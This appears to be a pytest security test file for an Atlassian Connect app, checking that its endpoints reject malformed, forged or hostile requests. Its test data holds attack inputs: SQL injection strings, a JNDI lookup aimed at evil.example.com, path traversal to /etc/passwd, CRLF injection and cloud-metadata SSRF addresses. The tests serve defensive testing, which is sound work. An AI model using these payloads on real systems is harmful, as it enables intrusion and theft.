"""Genuine tokens over bodies, parameters and issues that are not theirs: no signature covers a body."""

import json

import pytest

JSON = "Content-Type: application/json"


def body_changes(**changes):
    return lambda a: a.body(**changes)


MALFORMED = {
    "empty": lambda a: b"",
    "no JSON": lambda a: b"clientKey=genchi",
    "cut short": lambda a: a.body()[:-1],
    "an array": lambda a: b"[" + a.body() + b"]",
    "a text": lambda a: b'"installed"',
    "null": lambda a: b"null",
    "two objects": lambda a: a.body() * 2,
    "clientKey twice": lambda a: a.body()[:-1] + b',"clientKey":"b"}',
    "clientKey twice, once escaped": lambda a: a.body()[:-1] + b',"client\\u004bey":"b"}',
    "baseUrl twice": lambda a: b'{"baseUrl":"https://evil.atlassian.net",' + a.body()[1:],
    "a key twice, deep inside": lambda a: a.body()[:-1] + b',"x":{"a":1,"a":2}}',
    "NaN": lambda a: a.body()[:-1] + b',"x":NaN}',
    "Infinity": lambda a: a.body()[:-1] + b',"x":-Infinity}',
    "invalid UTF-8": lambda a: a.body()[:-1] + b',"x":"\xff"}',
    "UTF-16": lambda a: a.body().decode().encode("utf-16"),
    "a byte order mark": lambda a: b"\xef\xbb\xbf" + a.body(),
    "NUL behind": lambda a: a.body() + b"\0",
    "nested 33 deep": lambda a: a.body()[:-1] + b',"x":' + b"[" * 33 + b"]" * 33 + b"}",
    "nested 30,000 deep": lambda a: a.body()[:-1] + b',"x":' + b"[" * 30_000 + b"]" * 30_000 + b"}",
    "nested 60,000 deep and open": lambda a: b"[" * 60_000,
    "a number of 50,000 digits": lambda a: a.body()[:-1] + b',"x":' + b"9" * 50_000 + b"}",
    "clientKey missing": body_changes(clientKey=...),
    "clientKey null": body_changes(clientKey=None),
    "clientKey a list": body_changes(clientKey=["a"]),
    "clientKey with NUL": body_changes(clientKey="a\0"),
    "clientKey with a lone surrogate": body_changes(clientKey="\ud800"),
    "clientKey of 10,000 characters": body_changes(clientKey="a" * 10_000),
    "key missing": body_changes(key=...),
    "key an object": body_changes(key={"a": "b"}),
    "sharedSecret missing": body_changes(sharedSecret=...),
    "sharedSecret null": body_changes(sharedSecret=None),
    "sharedSecret empty": body_changes(sharedSecret=""),
    "sharedSecret short": body_changes(sharedSecret="a" * 31),
    "sharedSecret a number": body_changes(sharedSecret=10**40),
    "sharedSecret with NUL": body_changes(sharedSecret="a" * 40 + "\0"),
    "sharedSecret of 10,000 characters": body_changes(sharedSecret="a" * 10_000),
    "cloudId a list": body_changes(cloudId=["a"]),
    "cloudId with a line break": body_changes(cloudId="a\r\nb"),
    "productType an object": body_changes(productType={"a": 1}),
}
URLS = {
    "with a line break": "https://x.atlassian.net\r\nX-A: b",
    "with a line break, encoded": "https://x.atlassian.net%0d%0aX-A:b",
    "with a space": "https://x.atlassian.net 'unsafe-inline'",
    "with a semicolon": "https://x.atlassian.net;script-src",
    "with a comma": "https://x.atlassian.net,https://evil.example.com",
    "with a quotation mark": "https://x.atlassian.net'",
    "with a double quotation mark": 'https://x.atlassian.net">',
    "with an asterisk": "https://*.atlassian.net",
    "with user information": "https://x.atlassian.net@evil.example.com",
    "with user information of ours": "https://evil.example.com@x.atlassian.net",
    "with a password": "https://a:b@x.atlassian.net",
    "with a backslash": "https://evil.example.com\\.atlassian.net",
    "with a dot behind": "https://x.atlassian.net.",
    "with a path": "https://x.atlassian.net/wiki",
    "with a query": "https://x.atlassian.net?a=b",
    "with a fragment": "https://evil.example.com#.atlassian.net",
    "with NUL": "https://evil.example.com\0.atlassian.net",
    "with a tab": "https://x.atlassian\t.net",
    "with an open bracket": "https://[",
    "with an IPv6 host": "https://[::1]",
    "with an IPv6 zone": "https://[fe80::1%25eth0]",
    "in Unicode": "https://x.atlassian。net",
    "in full-width letters": "https://\uff58.atlassian.net",
    "without a host": "https://",
    "without a scheme": "//x.atlassian.net",
    "only a host": "x.atlassian.net",
    "javascript": "javascript:alert(1)",
    "data": "data:text/html,x",
    "file": "file:///etc/passwd",
    "ftp": "ftp://x.atlassian.net",
    "a list": ["https://x.atlassian.net"],
    "a number": 1,
    "of 10,000 characters": "https://" + "a" * 10_000 + ".atlassian.net",
}
MALFORMED |= {f"baseUrl {name}": body_changes(baseUrl=url) for name, url in URLS.items()}
MALFORMED |= {f"displayUrl {name}": body_changes(displayUrl=url) for name, url in URLS.items()}


@pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED.keys())
def test_a_malformed_installation_is_refused(arena, body):
    arena.refuses(arena.call("installed", body=body(arena)), 400, "body_malformed", kind="installed")


ANOTHERS = {
    "the client key of another site": lambda a: {"clientKey": a.site("kencha").client_key},
    "the client key of nobody": lambda a: {"clientKey": "nobody"},
    "the client key of another site, and its address": lambda a: {
        "clientKey": a.site("kencha").client_key,
        "baseUrl": a.site("kencha").url,
    },
    "the client key in upper case": lambda a: {"clientKey": a.site().client_key.upper()},
    "a client key that is SQL": lambda a: {"clientKey": "';DROP/**/TABLE/**/registry.tenants;--"},
    "another app": lambda a: {"key": "io.example.other"},
    "our app in upper case": lambda a: {"key": a.site().installation.descriptor.key.upper()},
    "a host without a label boundary": lambda a: {"baseUrl": "https://evilatlassian.net"},
    "a host that ours is a part of": lambda a: {"baseUrl": "https://x.atlassian.net.evil.example.com"},
    "a host that only ends so": lambda a: {"baseUrl": "https://evil-atlassian.net"},
    "another host": lambda a: {"baseUrl": "https://evil.example.com"},
    "an http address": lambda a: {"baseUrl": "http://x.atlassian.net"},
    "a port": lambda a: {"baseUrl": "https://x.atlassian.net:8443"},
    "the address of the machine's metadata": lambda a: {"baseUrl": "http://169.254.169.254"},
    "an address in the local network": lambda a: {"baseUrl": "https://10.0.0.1"},
    "an address as a number": lambda a: {"baseUrl": "http://2130706433"},
    "an address in short form": lambda a: {"baseUrl": "http://127.1"},
    "an address of all interfaces": lambda a: {"baseUrl": "http://0.0.0.0"},
}


@pytest.mark.parametrize("changes", ANOTHERS.values(), ids=ANOTHERS.keys())
def test_a_genuine_token_over_the_body_of_another_is_refused(arena, changes):
    body = arena.body(**changes(arena))
    arena.refuses(arena.call("installed", body=body), 403, "not_for_this", kind="installed")


@pytest.mark.parametrize("changes", list(ANOTHERS.values())[:7], ids=list(ANOTHERS)[:7])
def test_a_site_does_not_uninstall_another(arena, changes):
    body = arena.body("uninstalled", sharedSecret=..., **changes(arena))
    arena.refuses(arena.call("uninstalled", body=body), 403, "not_for_this", kind="installed")


def test_the_canary_as_base_url_is_not_called_by_a_refusal(arena):
    body = arena.body(baseUrl=arena.canary.url, clientKey="nobody")
    arena.refuses(arena.call("installed", body=body), 403, "not_for_this")


SIZES = {
    "a megabyte": ("installed", ()),
    "a megabyte to uninstalled": ("uninstalled", ()),
    "a body without an end": ("installed", ("Content-Length: 99999999999999999999",)),
    "chunks instead of a length": ("installed", ("Transfer-Encoding: chunked",)),
    "chunks that are none": ("uninstalled", ("Transfer-Encoding: chunked",)),
}


@pytest.mark.parametrize(("kind", "lines"), SIZES.values(), ids=SIZES.keys())
def test_a_body_of_no_or_great_length_is_refused(arena, kind, lines):
    body = b"2\r\n{}\r\n0\r\n\r\n" if lines else b" " * 1_000_000
    arena.refuses(arena.call(kind, *lines, body=body), 413, "body_too_large")


def test_a_webhook_of_five_megabytes_is_refused(arena):
    arena.refuses(arena.call("webhook", body=b" " * 5_000_000), 413, "body_too_large", kind="webhook")


def test_a_megabyte_without_a_token_is_refused_for_the_token(arena):
    arena.refuses(arena.request("POST", "/connect/installed", JSON, body=b"x" * 1_000_000), 401, "token_invalid")


MEDIA_TYPES = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml")
MEDIA_TYPES += ("application/jsonp", "text/json", "*/*", "", "application/json/../text", "application/json, text/html")


@pytest.mark.parametrize("kind", ["installed", "uninstalled", "webhook"])
@pytest.mark.parametrize("media_type", MEDIA_TYPES)
def test_a_body_of_another_media_type_is_refused(arena, kind, media_type):
    arena.refuses(arena.call(kind, f"Content-Type: {media_type}"), 415, "wrong_media_type", kind=kind)


VALUES = {
    "missing": None,
    "empty": "",
    "zero": "0",
    "negative": "-1",
    "with a sign": "%2B1",
    "a fraction": "1.5",
    "in scientific notation": "1e3",
    "in hexadecimal": "0x10",
    "with an underscore": "1_0",
    "with a leading zero": "007",
    "of 19 digits": "9" * 19,
    "of 7,000 digits": "9" * 7_000,
    "in other digits": "%D9%A1%D9%A2",
    "SQL": "1%20OR%201=1",
    "SQL with a quotation mark": "%27;DROP%20TABLE%20app.issues;--",
    "SQL that sleeps": "1;SELECT%20pg_sleep(9)",
    "a pattern": "%25",
    "a template": "%7B%7B7*7%7D%7D",
    "a look-up": "$%7Bjndi:ldap://evil.example.com%7D",
    "HTML": "%3Cscript%3E",
    "a path": "../../etc/passwd",
    "NUL": "1%00",
    "a line break": "1%0d%0aX-A:b",
    "invalid UTF-8": "%ff",
    "a list": "1,2",
    "null": "null",
}
PLACES = {
    "issueId of a page": ("panel", "/connect/issue?issueKey=SEC-1&issueId={}"),
    "issueKey of a page": ("panel", "/connect/issue?issueId=10001&issueKey={}"),
    "issueId of a fragment": ("fragment", "/fragments/issue?issueKey=SEC-1&issueId={}"),
    "issueId of a webhook": ("webhook", "/connect/webhooks?issueId={}"),
}


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES.keys())
@pytest.mark.parametrize("value", VALUES.values(), ids=VALUES.keys())
def test_a_parameter_of_another_form_is_refused(arena, place, value):
    kind, template = place
    target = template.format(value) if value is not None else template.rpartition("&" if "&" in template else "?")[0]
    arena.refuses(arena.call(kind, target=target), 400, "parameter_malformed", kind=kind)


@pytest.mark.parametrize(("kind", "template"), PLACES.values(), ids=PLACES.keys())
def test_a_parameter_that_stands_twice_is_refused(arena, kind, template):
    name = template.rpartition("=")[0].rpartition("&")[2].rpartition("?")[2]
    target = f"{template.format('10001')}&{name}=10002"
    arena.refuses(arena.call(kind, target=target), 400, "parameter_malformed", kind=kind)


@pytest.mark.parametrize("value", [name for name in VALUES if name not in {"missing", "empty", "a path", "a look-up"}])
def test_an_issue_of_another_form_in_the_path_is_refused(arena, value):
    target = f"/api/v1/issues/{VALUES[value]}/clocks"
    arena.refuses(arena.call("clocks", target=target), 400, "parameter_malformed", kind="clocks")


@pytest.mark.parametrize("name", ["a" * 300, "a b", "a\tb", "caf\xe9", ""])
def test_a_webhook_under_an_odd_name_is_refused(arena, name):
    arena.refuses(
        arena.call("webhook", f"X-Atlassian-Webhook-Identifier: {name}"), 400, "parameter_malformed", kind="webhook"
    )


STATIC = ("%00", "..%2f..%2fwiring.py", "%2e%2e/gates.py", "..%5cgates.py", "/etc/passwd", "%2fetc%2fpasswd", "%ff", "")
STATIC += (".", "..", "icon.svg%00.css", "a" * 5_000, "%2e", "ICON.SVG", "....//gates.py")


@pytest.mark.parametrize("name", STATIC)
def test_a_static_file_that_is_none_of_ours_is_not_there(arena, name):
    arena.refuses(arena.request("GET", f"/static/{name}"), 404, "not_found")


UNSEEN = {
    "an issue that only another site tracks": lambda a: a.only_kencha.id,
    "the key of an issue that only another site tracks": lambda a: a.only_kencha.key,
    "an issue that nobody has": lambda a: "77777",
    "a key that nobody has": lambda a: "NONE-1",
    "the largest id": lambda a: "9" * 18,
}


@pytest.mark.parametrize("issue", UNSEEN.values(), ids=UNSEEN.keys())
def test_an_issue_of_another_site_is_as_unknown_as_any(arena, issue):
    reply = arena.refuses(arena.call("clocks", target=f"/api/v1/issues/{issue(arena)}/clocks"), 404, "not_found")
    nobody = arena.send(arena.call("clocks", target="/api/v1/issues/66666/clocks"))
    assert reply.without_trace == nobody.without_trace


def test_an_issue_that_its_reader_may_not_see_is_as_unknown_as_any(arena):
    token = arena.token("clocks", sub=arena.site().person("outsider").account_id)
    arena.refuses(arena.call("clocks", token=token), 404, "not_found", kind="clocks")


@pytest.mark.parametrize("kind", ["panel", "fragment"])
def test_the_page_of_an_issue_of_another_site_shows_no_fact(arena, kind):
    path = "/connect/issue" if kind == "panel" else "/fragments/issue"
    reply = arena.send(
        arena.call(kind, target=f"{path}?issueId={arena.only_kencha.id}&issueKey={arena.only_kencha.key}")
    )
    assert reply.status == 200
    assert b"Ruby in the smoke" not in reply.body
    assert b"Critical" not in reply.body
    arena.is_untouched()


def test_a_page_is_framed_by_its_own_site_only(arena):
    policy = arena.send(arena.honest("panel")).headers["content-security-policy"]
    assert f"frame-ancestors {arena.site().url};" in policy
    assert arena.site("kencha").url not in policy


def test_a_webhook_is_believed_for_its_signed_issue_only(arena):
    """The body names another issue, of another kind, and is worth nothing."""
    hint = {"issue": {"id": "10001", "key": "SEC-1", "fields": {"issuetype": {"name": "Task"}, "labels": []}}}
    assert arena.send(arena.call("webhook", body=json.dumps(hint).encode())).status == 204
    arena.is_untouched()
